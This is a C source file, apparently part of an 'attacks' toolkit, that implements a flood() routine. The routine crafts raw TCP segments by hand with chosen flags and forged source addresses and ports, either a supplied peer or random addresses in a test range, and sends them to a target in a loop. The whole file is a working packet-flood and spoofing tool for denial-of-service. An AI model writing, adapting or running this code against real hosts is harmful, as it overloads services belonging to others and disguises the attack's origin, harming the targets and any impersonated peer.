/* Segments that no connection of this host sends: packets made by hand. */
#include "attacks.h"

enum { SOCK_RAW = 3, IPPROTO_RAW = 255, PROTOCOL_TCP = 6 };

/* As on the wire. */
struct packet {
  uint8_t version_and_length, service;
  uint16_t total, identification, fragment;
  uint8_t time_to_live, protocol;
  uint16_t header_checksum; /* the kernel's to fill in */
  uint32_t source, destination;
  uint16_t source_port, destination_port;
  uint32_t sequence, acknowledgment;
  uint8_t data_offset, flags;
  uint16_t window, checksum, urgent;
  uint8_t options[4];
};

static uint32_t random_word(void) {
  static uint64_t state = 0;
  if (state == 0) state = now() | 1;
  state ^= state << 13, state ^= state >> 7, state ^= state << 17;
  return (uint32_t)(state >> 16);
}

static uint32_t sum(const void *bytes, size_t length) {
  const uint16_t *words = bytes;
  uint32_t total = 0;
  for (size_t i = 0; i < length / 2; i++) total += words[i];
  return total;
}

static uint16_t checksum_of(const struct packet *packet) {
  const size_t length = sizeof *packet - 20;
  uint32_t total = sum(&packet->source, 8 + length) + __builtin_bswap16(PROTOCOL_TCP) + __builtin_bswap16((uint16_t)length);
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  return (uint16_t)~total;
}

void flood(struct target target, struct target peer, unsigned flags, uint32_t count) {
  const struct address to = address_of(target.host, 0);
  long fd = call(SOCKET, AF_INET, SOCK_RAW, IPPROTO_RAW, 0, 0, 0);
  uint32_t sent = 0;
  for (uint32_t i = 0; i < count; i++) {
    struct packet packet = {
        .version_and_length = 0x45,
        .total = __builtin_bswap16(sizeof packet),
        .time_to_live = 64,
        .protocol = PROTOCOL_TCP,
        /* 198.18.0.0/15 is for tests of networks (RFC 2544). */
        .source = peer.host != 0 ? peer.host : __builtin_bswap32(0xc6120000 | (random_word() & 0x1ffff)),
        .destination = target.host,
        .source_port = peer.host != 0 ? __builtin_bswap16(peer.port) : (uint16_t)random_word(),
        .destination_port = __builtin_bswap16(target.port),
        .sequence = random_word(),
        .acknowledgment = flags == ACK ? random_word() : 0,
        .data_offset = 6 << 4,
        .flags = (uint8_t)flags,
        .window = 0xffff,
        .options = {2, 4, 0x05, 0xb4},
    };
    packet.checksum = checksum_of(&packet);
    if (call(SENDTO, fd, (long)&packet, sizeof packet, 0, (long)&to, sizeof to) == sizeof packet) sent++;
  }
  say_number(sent);
  call(EXIT, sent == count ? 0 : 1, 0, 0, 0, 0, 0);
}
